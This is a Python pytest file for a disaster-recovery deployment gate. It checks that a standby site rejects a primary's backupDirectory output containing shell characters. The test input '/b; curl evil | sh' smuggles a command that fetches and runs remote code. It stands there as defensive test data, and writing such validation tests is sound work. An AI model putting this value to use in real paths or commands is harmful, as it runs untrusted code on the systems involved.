"""A standby refuses a primary whose exported backup directory holds shell characters, naming dr.primaryStack and the
output."""

from __future__ import annotations

from pathlib import Path

import pytest

from components.config_loader import load_site_config
from components.deploy_gates import GateError, PrimarySite
from tests.stack_values import raw


def standby(tmp_path: Path, **dr) -> tuple:
    site = load_site_config(
        raw(
            siteName="codenvy-dr",
            role="standby",
            backup={"directory": str(tmp_path / "standby"), "schedule": None},
            dr={"primaryStack": "o/p/primary", "standby": "cold", **dr},
        )
    )
    outputs = {
        "siteName": "codenvy",
        "version": "5.22.0",
        "managerAddress": "10.9.0.1",
        "registry": "10.9.0.1:5000",
        "backupDirectory": str(tmp_path / "primary"),
        "nodes": site.node_set,
    }
    return site, PrimarySite.from_outputs("o/p/primary", outputs)


def test_the_standby_refuses_a_primary_backup_directory_with_shell_characters(tmp_path):
    site, _ = standby(tmp_path)
    outputs = {
        "siteName": "codenvy",
        "version": "5.22.0",
        "managerAddress": "10.9.0.1",
        "registry": "10.9.0.1:5000",
        "backupDirectory": "/b; curl evil | sh",
        "nodes": site.node_set,
    }
    with pytest.raises(GateError, match=r"codenvy-infra:dr\.primaryStack: the output backupDirectory"):
        PrimarySite.from_outputs("o/p/primary", outputs)
